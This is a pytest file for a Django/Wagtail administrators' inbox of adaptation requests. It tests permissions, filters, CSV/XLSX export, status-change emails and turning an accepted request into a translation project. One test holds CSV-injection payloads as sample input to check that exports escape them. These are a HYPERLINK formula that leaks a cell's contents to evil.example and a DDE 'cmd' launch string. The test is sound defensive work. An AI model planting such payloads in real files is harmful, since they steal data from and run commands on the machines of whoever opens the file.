"""The administrators' inbox: who may see it, filters and export, status changes with a note and
an email, and accepting a request as a translation project."""

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.test import Client
from django.urls import reverse
from wagtail.models import Locale, Page

from adaptations.models import AdaptationRequest

pytestmark = pytest.mark.django_db

INDEX = "wagtailsnippets_adaptations_adaptationrequest:list"
INSPECT = "wagtailsnippets_adaptations_adaptationrequest:inspect"


def action_url(name, adaptation):
    return reverse(f"adaptations_admin:{name}", args=[adaptation.pk])


@pytest.mark.parametrize("username", ["editora", "revisor", "publicadora", "gestora",
                                      "traductora-fr"])  # fmt: skip
def test_only_administrators_see_or_decide_requests(as_user, make_request, username):
    adaptation = make_request()
    client = as_user(username)
    # Every page of the inbox answers 403 (not Wagtail's redirect to the dashboard).
    for url in (
        reverse(INDEX),
        reverse(INDEX) + "?export=csv",
        reverse("wagtailsnippets_adaptations_adaptationrequest:list_results"),
        reverse(INSPECT, args=[adaptation.pk]),
        reverse("wagtailsnippets_adaptations_adaptationrequest:history", args=[adaptation.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 403, url
        content = b"".join(response.streaming_content) if response.streaming else response.content
        assert "Red Haitiana" not in content.decode()
    for name, data in (("change_status", {"status": "declined", "note": "No"}),
                       ("accept", {"locale_code": "fr", "note": "Yes"})):  # fmt: skip
        assert client.post(action_url(name, adaptation), data).status_code == 403
    adaptation.refresh_from_db()
    assert adaptation.status == AdaptationRequest.NEW and not adaptation.changes.exists()
    dashboard = as_user("administrador").get(reverse("wagtailadmin_home")).content.decode()
    assert reverse(INDEX) in dashboard  # the menu item, for Administrators


def test_the_inbox_filters_and_exports_csv(as_user, make_request):
    make_request()
    quito = make_request(organisation="Cáritas Quito", language="qu", region="", country="EC")
    client = as_user("administrador")
    html = client.get(reverse(INDEX), {"language": "qu"}).content.decode()
    assert "Cáritas Quito" in html and "Red Haitiana" not in html
    assert f'href="{reverse(INSPECT, args=[quito.pk])}"' in html  # each row opens its request
    html = client.get(reverse(INDEX), {"country": "HT", "status": "new"}).content.decode()
    assert "Red Haitiana" in html and "Cáritas Quito" not in html
    response = client.get(reverse(INDEX), {"export": "csv", "language": "fr"})
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content)))
    assert len(rows) == 2 and "Red Haitiana de Protección" in rows[1]
    assert "1, 2, 3" in rows[1]


def test_a_status_change_needs_a_note_and_emails_it_in_the_requesters_language(
    as_user, make_request, django_capture_on_commit_callbacks
):
    adaptation = make_request()  # written on /en/
    mail.outbox.clear()
    client = as_user("administrador")
    response = client.post(
        action_url("change_status", adaptation), {"status": "review", "note": ""}
    )
    assert response.status_code == 302
    adaptation.refresh_from_db()
    assert adaptation.status == AdaptationRequest.NEW and not mail.outbox
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            action_url("change_status", adaptation),
            {"status": "review", "note": "We are checking the country units."},
        )
    adaptation.refresh_from_db()
    assert adaptation.status == AdaptationRequest.REVIEW
    [email] = mail.outbox
    assert "Under review" in email.subject and "We are checking the country units." in email.body
    html = client.get(reverse(INSPECT, args=[adaptation.pk])).content.decode()
    assert "We are checking the country units." in html  # the history


def test_accepting_creates_the_locale_its_roles_and_a_job_that_submits_the_modules(
    as_user, demo, make_request, haitian_french, django_capture_on_commit_callbacks
):
    from wagtail_localize.models import StringSegment, StringTranslation, Translation

    from translations.models import TranslationJob
    from translations.qa import INHERITED
    from translations.roles import reviewer_group_name, translator_group_name, workflow_name

    # One segment of module 1 already translated into French (the variant's base language).
    french = Translation.objects.get(
        source__object_id=demo.module(1).translation_key, target_locale__language_code="fr"
    )
    segment = StringSegment.objects.filter(source=french.source).first()
    StringTranslation.objects.create(
        translation_of_id=segment.string_id, context_id=segment.context_id,
        locale=french.target_locale, data="Texte traduit en français",
    )  # fmt: skip
    adaptation = make_request()
    client = as_user("administrador")
    html = client.get(reverse(INSPECT, args=[adaptation.pk])).content.decode()
    assert 'value="fr-ht"' in html and 'value="fr"' in html  # the variant or its language
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            action_url("accept", adaptation), {"locale_code": "fr-ht", "note": "Welcome aboard."}
        )
    assert response.status_code == 302
    adaptation.refresh_from_db()
    locale = Locale.objects.get(language_code="fr-ht")
    assert adaptation.status == AdaptationRequest.ACCEPTED and adaptation.locale == locale
    for name in (translator_group_name("fr-ht"), reviewer_group_name("fr-ht")):
        assert Group.objects.filter(name=name).exists()
    home = Page.objects.get(depth=2, locale=locale).specific
    assert home.get_workflow().name == workflow_name("fr-ht")
    job = adaptation.job
    assert (job.status, job.done, job.total) == (TranslationJob.DONE, job.total, job.total)
    assert list(job.locales.all()) == [locale]
    modules = [demo.module(number) for number in (1, 2, 3)]
    submitted = Translation.objects.filter(target_locale=locale)
    keys = set(submitted.values_list("source__object_id", flat=True))
    assert {m.translation_key for m in modules} <= keys
    assert demo.module(4).translation_key not in keys
    # A regional variant starts from its base language (fr), marked inherited.
    [inherited] = StringTranslation.objects.filter(locale=locale)
    assert (inherited.translation_of_id, inherited.context_id) == (
        segment.string_id,
        segment.context_id,
    )
    assert (inherited.data, inherited.tool_name) == ("Texte traduit en français", INHERITED)
    [email] = mail.outbox
    assert "Accepted" in email.subject and "Welcome aboard." in email.body

    # The progress on the request, and the dashboard filtered on the project.
    html = client.get(reverse(INSPECT, args=[adaptation.pk])).content.decode()
    assert "Segments translated" in html or "Segmentos traducidos" in html
    dashboard = reverse("translations:dashboard") + f"?project={adaptation.pk}"
    assert dashboard in html
    page = client.get(dashboard).content.decode()
    assert f'<option value="{adaptation.pk}" selected>' in page
    assert 'class="w-mb-4 translation-project"' in page
    assert page.count('data-locale="fr-ht"') >= 3 and 'data-locale="pt-br"' not in page
    matrix = page.split('class="listing translations-matrix"')[1]
    rows = re.findall(r'<th scope="row">(.*?)</th>', matrix, re.S)
    assert len(rows) == 3, rows  # the project's three modules, nothing else
    assert all(module.title in row for module, row in zip(modules, rows, strict=True))


def test_a_request_for_a_language_the_site_lacks_cannot_be_accepted(as_user, make_request):
    adaptation = make_request(language="ht", region="")
    client = as_user("administrador")
    html = client.get(reverse(INSPECT, args=[adaptation.pk])).content.decode()
    assert "No content language of the site matches" in html or "ht" in html
    response = client.post(action_url("accept", adaptation), {"locale_code": "ht", "note": "x"})
    assert response.status_code == 302
    adaptation.refresh_from_db()
    assert adaptation.status == AdaptationRequest.NEW
    assert not Locale.objects.filter(language_code="ht").exists()


def test_the_project_job_runs_again_in_the_terminal_with_progress(
    user, demo, make_request, django_capture_on_commit_callbacks
):
    """After a failure (or to watch it): the same job, run again, creates only what is
    missing."""
    from django.core.management import CommandError, call_command

    from adaptations.services import accept
    from translations.models import TranslationJob

    adaptation = make_request()
    with pytest.raises(CommandError, match="has not been accepted"):
        call_command("run_adaptation_project", adaptation.pk, stdout=io.StringIO())
    with django_capture_on_commit_callbacks(execute=False):  # the queued job does not run
        accept(adaptation=adaptation, locale_code="fr", note="Oui", by=user("administrador"))
    adaptation.refresh_from_db()
    assert adaptation.job.status == TranslationJob.QUEUED
    out = io.StringIO()
    call_command("run_adaptation_project", adaptation.pk, stdout=out)
    job = TranslationJob.objects.get(pk=adaptation.job_id)
    assert (job.status, job.done) == (TranslationJob.DONE, job.total)
    assert f"{job.total}/{job.total}" in out.getvalue()
    assert "Locale 'fr' is ready" in out.getvalue()


def test_the_export_neutralises_spreadsheet_formulas(as_user, make_request):
    """Text a requester typed that a spreadsheet would run as a formula (= + - @) is exported as
    text, in CSV and XLSX alike."""
    make_request(
        organisation='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        contact_name="+cmd|' /C calc'!A0",
        email="mcjoseph@example.org",
        timeline="@SUM(1+1)*cmd",
    )
    client = as_user("administrador")
    response = client.get(reverse(INDEX), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = rows[1]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    response = client.get(reverse(INDEX), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell.value for cell in sheet[2]]
    assert all(cell.data_type != "f" for cell in sheet[2])  # no formula cell
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in values


def test_anonymous_visitors_are_sent_to_sign_in_and_decide_nothing(client, make_request):
    adaptation = make_request()
    for url in (reverse(INDEX), reverse(INSPECT, args=[adaptation.pk])):
        response = client.get(url)
        assert response.status_code == 302 and "/login/" in response.url
    response = client.post(action_url("change_status", adaptation), {"status": "declined"})
    assert response.status_code == 302 and "/login/" in response.url
    adaptation.refresh_from_db()
    assert adaptation.status == AdaptationRequest.NEW


def test_a_decision_needs_post_and_csrf(user, make_request):
    adaptation = make_request()
    client = Client(enforce_csrf_checks=True)
    client.force_login(user("administrador"))
    assert client.get(action_url("change_status", adaptation)).status_code == 405
    response = client.post(
        action_url("change_status", adaptation), {"status": "declined", "note": "No"}
    )
    assert response.status_code == 403
    adaptation.refresh_from_db()
    assert adaptation.status == AdaptationRequest.NEW and not adaptation.changes.exists()
